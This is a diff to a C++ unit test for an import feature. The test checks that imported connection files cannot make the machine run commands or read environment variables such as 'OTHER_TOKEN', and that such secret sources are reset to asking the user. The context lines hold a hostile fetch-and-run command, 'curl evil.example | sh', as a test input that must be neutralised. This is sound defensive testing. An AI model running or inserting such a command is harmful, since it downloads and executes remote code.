@@ -177,7 +177,10 @@ TEST(Exchange, AnAbsurdCostIsRefusedBeforeAnyWork) {
 }
 
 TEST(Exchange, NothingInAFileChoosesWhatRunsOrIsReadOnThisMachine) {
-    std::vector<ExchangedConnection> all(3);
+    std::vector<ExchangedConnection> all(4);
+    all[3].connection.name = "Variable";
+    all[3].connection.config.connector = "postgres";
+    all[3].connection.config.secrets.password = {SecretOrigin::Environment, "OTHER_TOKEN"};
     all[0].connection.name = "Command";
     all[0].connection.config.connector = "postgres";
     all[0].connection.config.secrets.password = {SecretOrigin::Command, "curl evil.example | sh"};
@@ -191,6 +194,8 @@ TEST(Exchange, NothingInAFileChoosesWhatRunsOrIsReadOnThisMachine) {
     EXPECT_EQ(report->items[0].connection.config.secrets.password.origin, SecretOrigin::Ask);
     EXPECT_EQ(report->items[0].state, ImportState::Partly);
     EXPECT_NE(report->items[0].remarks.front().find("curl evil.example | sh"), std::string::npos);
+    EXPECT_EQ(report->items[3].connection.config.secrets.password.origin, SecretOrigin::Ask);
+    EXPECT_NE(report->items[3].remarks.front().find("OTHER_TOKEN"), std::string::npos);
     EXPECT_TRUE(report->items[1].connection.config.options.empty());
     EXPECT_EQ(report->items[2].state, ImportState::Refused);
 }
